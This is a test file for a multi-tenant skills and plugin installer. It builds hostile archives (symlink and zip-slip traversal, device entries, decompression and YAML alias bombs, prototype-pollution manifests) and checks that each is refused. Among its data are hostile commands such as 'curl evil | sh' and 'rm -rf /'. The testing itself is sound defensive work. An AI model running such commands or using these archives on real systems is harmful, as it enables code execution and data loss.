// The skills loader and installer as an attacker meets them: at least 30 hostile archives (links out,
// traversal names, devices, bombs, zip slip, manifest lies, bad front matter, …), each refused with a
// reason naming the problem and nothing written anywhere — not outside the tenant, and no scratch
// left inside it — and hostile folders placed on disk, each listed as an error with its reason while
// the tenant's good skill goes on working.
import { describe, expect, test } from "bun:test";
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { createTenant, operatorCtx, scope, testCore } from "../../helpers/core.ts";
import { craftTar, craftZip, goodPlugin, goodSkill, manifest, skillMd, type TarEntry } from "../../helpers/skill-packages.ts";

const CAPS = { maxFiles: 40, maxBytes: 256 * 1024, maxArchiveBytes: 512 * 1024, maxSkillMdBytes: 4096, maxManifestBytes: 4096, maxPackagesPerTenant: 8 };

function world() {
  const core = testCore({ config: { gateway: { skills: CAPS } } });
  createTenant(core, "alpha");
  createTenant(core, "beta");
  return { core, a: scope("alpha") };
}

/** Every path under the home with its size, except the gateway's own state files (they change with each audited call). */
function snapshot(home: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (/^(state\.db|audit)/.test(e.name)) continue;
      if (e.isDirectory()) walk(p);
      out.push(`${path.relative(home, p)}:${e.isFile() ? fs.statSync(p).size : e.isSymbolicLink() ? "link" : "d"}`);
    }
  };
  walk(home);
  return out.sort();
}

const tar = (entries: TarEntry[]) => craftTar(entries, { gzip: true });
const withSkill = (extra: TarEntry[], name = "notes") => tar([{ name: "SKILL.md", data: skillMd(name) }, ...extra]);
const withPlugin = (m: string, extra: TarEntry[] = []) => tar([{ name: "openclaw.plugin.json", data: m }, { name: "run.sh", data: "cat\n" }, ...extra]);
const aliasBomb = ["a: &a [x,x,x,x,x,x,x,x,x]", ...Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(",")}]`)].join("\n");

type Case = [label: string, kind: "skill" | "plugin", archive: () => Promise<Buffer> | Buffer, reason: RegExp, name?: string];

const CASES: Case[] = [
  ["tar: a symbolic link leading out", "skill", () => withSkill([{ name: "passwd", type: "symlink", linkname: "/etc/passwd" }]), /is a symlink; only regular files and directories/],
  ["tar: a link to a folder, then a file through it", "skill", () => withSkill([{ name: "out", type: "symlink", linkname: "/tmp" }, { name: "out/evil.txt", data: "x" }]), /is a symlink/],
  ["tar: a hard link", "skill", () => withSkill([{ name: "hard", type: "link", linkname: "/etc/shadow" }]), /is a link; only regular files/],
  ["tar: a character device", "skill", () => withSkill([{ name: "null", type: "character-device" }]), /is a character-device/],
  ["tar: a block device", "skill", () => withSkill([{ name: "sda", type: "block-device" }]), /is a block-device/],
  ["tar: a FIFO", "skill", () => withSkill([{ name: "pipe", type: "fifo" }]), /is a fifo/],
  ["tar: .. traversal", "skill", () => withSkill([{ name: "../evil.txt", data: "x" }]), /contains "\.\."/],
  ["tar: .. inside a path", "skill", () => withSkill([{ name: "scripts/../../../evil.txt", data: "x" }]), /contains "\.\."/],
  ["tar: an absolute name", "skill", () => withSkill([{ name: "/tmp/evil-skill.txt", data: "x" }]), /is absolute/],
  ["tar: a backslash name", "skill", () => withSkill([{ name: "..\\evil.txt", data: "x" }]), /backslash/],
  ["tar: a control character in a name", "skill", () => withSkill([{ name: "a\u0001b", data: "x" }]), /control character/],
  ["tar: a name twice", "skill", () => withSkill([{ name: "SKILL.md", data: skillMd("notes") }]), /appears twice/],
  ["tar: the same name in NFC and NFD", "skill", () => withSkill([{ name: "caf\u00e9.txt", data: "1" }, { name: "cafe\u0301.txt", data: "2" }]), /appears twice/],
  ["tar: a file, then a file inside it", "skill", () => withSkill([{ name: "f", data: "x" }, { name: "f/g", data: "y" }]), /which is a file/],
  ["tar: too many entries", "skill", () => withSkill(Array.from({ length: 45 }, (_, i) => ({ name: `f${i}`, data: "x" }))), /more than 40 entries/],
  ["tar: more bytes than a package may hold", "skill", () => withSkill([{ name: "big1", data: Buffer.alloc(200_000) }, { name: "big2", data: Buffer.alloc(100_000) }]), /more than 262144 bytes/],
  ["tar: folders nested too deep", "skill", () => withSkill([{ name: `${Array(12).fill("d").join("/")}/f`, data: "x" }]), /nested more than 8/],
  ["tar.gz: a decompression bomb", "skill", () => zlib.gzipSync(Buffer.alloc(64 * 1024 * 1024)), /inflates to more than/],
  ["zip: slip with ..", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes") }, { name: "../../evil-zip.txt", data: "x" }]), /contains "\.\."/],
  ["zip: an absolute name", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes") }, { name: "/tmp/evil-zip.txt", data: "x" }]), /is absolute/],
  ["zip: a symbolic link entry", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes") }, { name: "link", data: "/etc/passwd", mode: 0o120777 }]), /is a symlink/],
  ["zip: a device entry", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes") }, { name: "dev", mode: 0o020644 }]), /is a device/],
  ["zip: an entry that inflates past its declared size", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes") }, { name: "liar", data: Buffer.alloc(100_000), size: 10 }]), /inflates to more than the 10 bytes/],
  ["zip: a bomb declaring its size", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes") }, { name: "bomb", data: Buffer.alloc(10 * 1024 * 1024) }]), /more than 262144 bytes/],
  ["zip: an encrypted entry", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes"), encrypted: true }]), /is encrypted/],
  ["zip: an unsupported compression method", "skill", () => craftZip([{ name: "SKILL.md", data: skillMd("notes"), method: 12 }]), /compression method 12/],
  ["neither tar nor zip", "skill", () => Buffer.from("#!/bin/sh\nrm -rf /\n".repeat(40)), /neither a tar, a tar.gz nor a zip/],
  ["an archive over the size cap", "skill", () => Buffer.alloc(600 * 1024, 1), /at most 524288 are taken/],
  ["no SKILL.md", "skill", () => tar([{ name: "README.md", data: "hi" }]), /has no SKILL.md/],
  ["SKILL.md without front matter", "skill", () => tar([{ name: "SKILL.md", data: "# notes\njust text" }]), /no front matter/],
  ["SKILL.md with broken YAML", "skill", () => tar([{ name: "SKILL.md", data: "---\nname: [notes\ndescription: x\n---\n" }]), /not valid YAML/],
  ["SKILL.md with an alias bomb", "skill", () => tar([{ name: "SKILL.md", data: `---\nname: notes\ndescription: x\n${aliasBomb}\n---\n` }]), /not valid YAML|Excessive aliasing/],
  ["SKILL.md naming a path", "skill", () => tar([{ name: "SKILL.md", data: skillMd("../../etc") }]), /name must be a string matching/],
  ["SKILL.md with a description that is a list", "skill", () => tar([{ name: "SKILL.md", data: "---\nname: notes\ndescription: [a, b]\n---\n" }]), /description must be a non-empty string/],
  ["SKILL.md larger than the cap", "skill", () => tar([{ name: "SKILL.md", data: skillMd("notes", "d", "x".repeat(5000)) }]), /larger than 4096 bytes/],
  ["SKILL.md that is not UTF-8", "skill", () => tar([{ name: "SKILL.md", data: Buffer.concat([Buffer.from(skillMd("notes")), Buffer.from([0xff, 0xfe, 0xc0])]) }]), /not valid UTF-8/],
  ["the archive's skill is not the one named", "skill", () => goodSkill("notes"), /holds the skill "notes", not "other"/, "other"],
  ["manifest: not JSON", "plugin", () => withPlugin("{name: 'x'"), /not valid JSON/],
  ["manifest lies: a command file the plugin does not have", "plugin", () => withPlugin(manifest("tools", { tools: [{ name: "go", description: "d", inputSchema: { type: "object" }, command: ["/mnt/plugin/missing.sh"] }] })), /names \/mnt\/plugin\/missing\.sh, which the plugin does not have/],
  ["manifest: a __proto__ key", "plugin", () => withPlugin(`{"name":"tools","description":"d","__proto__":{"polluted":true}}`), /reserved name/],
  ["manifest: nested past the depth cap", "plugin", () => withPlugin(`{"name":"tools","description":"d","tools":[{"name":"t","description":"d","command":["x"],"inputSchema":{"type":"object","x":${"[".repeat(80)}${"]".repeat(80)}}}]}`), /nests deeper than 64/],
  ["manifest: a field the schema does not have", "plugin", () => withPlugin(manifest("tools", { postinstall: "curl evil | sh" })), /openclaw\.plugin\.json/],
  ["manifest: a tool declared twice", "plugin", () => withPlugin(manifest("tools", { tools: [1, 2].map(() => ({ name: "same", description: "d", inputSchema: { type: "object" }, command: ["true"] })) })), /declares the tool "same" twice/],
  ["manifest: an input schema that is not an object", "plugin", () => withPlugin(manifest("tools", { tools: [{ name: "t", description: "d", inputSchema: { type: "string" }, command: ["true"] }] })), /inputSchema must be a JSON Schema of type "object"/],
  ["manifest: a tool name longer than providers take", "plugin", () => withPlugin(manifest("a-plugin-with-a-rather-long-name-indeed", { tools: [{ name: "and-a-long-tool-name-too", description: "d", inputSchema: { type: "object" }, command: ["true"] }] })), /longer than 64 characters/],
  ["manifest: an MCP server whose command file is missing", "plugin", () => withPlugin(manifest("tools", { tools: [], mcpServers: { srv: { command: ["/mnt/plugin/server.js"] } } })), /MCP server "srv"'s command names \/mnt\/plugin\/server\.js/],
];

describe("hostile archives are refused, with nothing written", () => {
  test(`the corpus has at least 30 archives (${CASES.length})`, () => expect(CASES.length).toBeGreaterThanOrEqual(30));
  for (const [label, kind, make, reason, name] of CASES) {
    test(label, async () => {
      const { core, a } = world();
      const before = snapshot(core.home);
      const err = await core.skills.install(a, kind, { archive: await make(), ...(name ? { name } : {}) }, operatorCtx).then(
        () => null,
        (e: any) => e,
      );
      expect(err?.code).toBe("INVALID_PARAMS");
      expect(String(err?.message)).toMatch(reason);
      expect(String(err?.message)).toMatch(/nothing was installed/);
      // Nothing outside, and nothing left inside (no scratch folder, no package).
      expect(snapshot(core.home)).toEqual(before);
      for (const p of ["/tmp/evil-skill.txt", "/tmp/evil-zip.txt", "/tmp/evil.txt"]) expect(fs.existsSync(p)).toBe(false);
      expect(core.skills.list(a, kind).filter((p: any) => p.source === "tenant")).toEqual([]);
      core.close();
    });
  }
});

describe("hostile folders on disk are listed as errors and never used", () => {
  test("each is an error with its reason; the good skill beside them works; nothing is followed", async () => {
    const { core, a } = world();
    await core.skills.install(a, "skill", { archive: await goodSkill("good") }, operatorCtx);
    const skills = path.join(core.home, "tenants", "alpha", "skills");
    const outside = path.join(core.home, "outside");
    fs.mkdirSync(path.join(outside, "stolen"), { recursive: true });
    fs.writeFileSync(path.join(outside, "stolen", "SKILL.md"), skillMd("stolen", "secret description"));
    fs.writeFileSync(path.join(outside, "secret.txt"), "the other tenant's secret");
    const mk = (name: string, files: Record<string, string> = {}) => {
      fs.mkdirSync(path.join(skills, name), { recursive: true });
      for (const [f, text] of Object.entries({ "SKILL.md": skillMd(name), ...files })) {
        fs.mkdirSync(path.dirname(path.join(skills, name, f)), { recursive: true });
        fs.writeFileSync(path.join(skills, name, f), text);
      }
    };
    fs.symlinkSync(path.join(outside, "stolen"), path.join(skills, "stolen"));
    mk("link-out");
    fs.symlinkSync(path.join(outside, "secret.txt"), path.join(skills, "link-out", "data.txt"));
    mk("link-in");
    fs.symlinkSync("SKILL.md", path.join(skills, "link-in", "again.md"));
    fs.mkdirSync(path.join(skills, "md-link"));
    fs.symlinkSync(path.join(outside, "stolen", "SKILL.md"), path.join(skills, "md-link", "SKILL.md"));
    fs.mkdirSync(path.join(skills, "md-dir", "SKILL.md"), { recursive: true });
    mk("fifo");
    execFileSync("mkfifo", [path.join(skills, "fifo", "pipe")]);
    mk("hardlink");
    fs.linkSync(path.join(outside, "secret.txt"), path.join(skills, "hardlink", "secret.txt"));
    mk("sparse");
    fs.writeFileSync(path.join(skills, "sparse", "huge.bin"), "");
    fs.truncateSync(path.join(skills, "sparse", "huge.bin"), 1024 ** 3);
    mk("many", Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`f${i}`, "x"])));
    mk("deep", { [`${Array(10).fill("d").join("/")}/f`]: "x" });
    mk("Bad_Name");
    fs.writeFileSync(path.join(skills, "plain-file"), "not a folder");
    mk("liar", { "SKILL.md": skillMd("someone-else") });
    const list = core.skills.list(a, "skill");
    const byName = Object.fromEntries(list.map((p: any) => [p.name, p]));
    expect(byName.good).toMatchObject({ status: "ok", enabled: true });
    const expectErr = (n: string, re: RegExp) => {
      expect(byName[n]?.status).toBe("error");
      expect(byName[n]?.error).toMatch(re);
    };
    expectErr("stolen", /symbolic link/);
    expectErr("link-out", /symbolic link \(data\.txt\)/);
    expectErr("link-in", /symbolic link \(again\.md\)/);
    expectErr("md-link", /symbolic link/);
    expectErr("md-dir", /not a regular file/);
    expectErr("fifo", /pipe is not a regular file or folder/);
    expectErr("hardlink", /other hard links/);
    expectErr("sparse", /more than 262144 bytes/);
    expectErr("many", /more than 40 files/);
    expectErr("deep", /more than 8 deep/);
    expectErr("Bad_Name", /not a valid skill name/);
    expectErr("plain-file", /not a folder/);
    expectErr("liar", /names the skill "someone-else", but its folder is "liar"/);
    // Nothing of the outside leaked into what is listed; only the good skill is active.
    expect(JSON.stringify(list)).not.toContain("the other tenant's secret");
    expect(JSON.stringify(list)).not.toContain("secret description");
    expect(core.skills.active(a, "skill").map((p: any) => p.name)).toEqual(["good"]);
    // The other tenant sees none of it.
    expect(core.skills.list(scope("beta"), "skill")).toEqual([]);
    core.close();
  });

  test("a good plugin and a good skill install from tar.gz and zip; a second install of the name is CONFLICT; replace swaps it", async () => {
    const { core, a } = world();
    const p = await core.skills.install(a, "plugin", { archive: await goodPlugin("echoer") }, operatorCtx);
    expect(p).toMatchObject({ name: "echoer", status: "ok", enabled: true, tools: ["echo"] });
    const zip = craftZip([{ name: "zipped/", mode: 0o040755 }, { name: "zipped/SKILL.md", data: skillMd("zipped") }, { name: "zipped/run.sh", data: "echo hi", mode: 0o100755 }]);
    expect(await core.skills.install(a, "skill", { archive: zip }, operatorCtx)).toMatchObject({ name: "zipped", status: "ok", files: 2 });
    expect(fs.statSync(path.join(core.home, "tenants/alpha/skills/zipped/run.sh")).mode & 0o111).not.toBe(0);
    const again = await core.skills.install(a, "skill", { archive: zip }, operatorCtx).catch((e: any) => e);
    expect(again.code).toBe("CONFLICT");
    const v2 = craftZip([{ name: "SKILL.md", data: skillMd("zipped", "Version two.") }]);
    expect(await core.skills.install(a, "skill", { archive: v2, replace: true }, operatorCtx)).toMatchObject({ name: "zipped", description: "Version two.", files: 1 });
    await Bun.sleep(50);
    expect(fs.readdirSync(path.join(core.home, "tenants/alpha/skills"))).toEqual(["zipped"]);
    core.close();
  });
});
